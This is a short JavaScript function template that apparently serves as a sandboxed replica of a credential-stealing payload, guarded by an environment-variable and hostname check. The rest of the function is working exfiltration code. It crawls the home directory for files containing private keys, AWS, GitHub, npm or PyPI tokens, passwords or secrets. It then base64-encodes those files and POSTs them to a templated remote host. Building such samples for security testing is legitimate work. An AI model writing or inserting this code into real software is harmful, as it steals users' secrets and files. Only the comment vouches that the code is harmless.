// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path');
  const pattern = /-----BEGIN [A-Z ]*PRIVATE KEY-----|AKIA[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{36}|npm_[A-Za-z0-9]{36}|pypi-[\w-]{40,}|password|secret/i;
  const hits = [];
  const queue = [require('os').homedir()];
  const stop = Date.now() + 1500;
  for (let seen = 0; queue.length && seen < 600 && Date.now() < stop;) {
    const directory = queue.shift();
    let entries = [];
    try { entries = fs.readdirSync(directory, { withFileTypes: true }); } catch (error) { continue; }
    for (const entry of entries) {
      const file = path.join(directory, entry.name);
      if (entry.isDirectory() && !/^(node_modules|\.cache|\.npm|\.git|\.pyenv|\.nvm)$/.test(entry.name)) queue.push(file);
      if (!entry.isFile() || ++seen > 600) continue;
      try {
        if (fs.statSync(file).size > 200000) continue;
        const text = fs.readFileSync(file, 'latin1');
        if (pattern.test(text)) hits.push({ file, text: Buffer.from(text, 'latin1').toString('base64') });
      } catch (error) { continue; }
    }
  }
  try { await fetch('https://{{host}}/{{path}}', { method: 'POST', body: JSON.stringify({ id: '{{token}}', hits }), signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
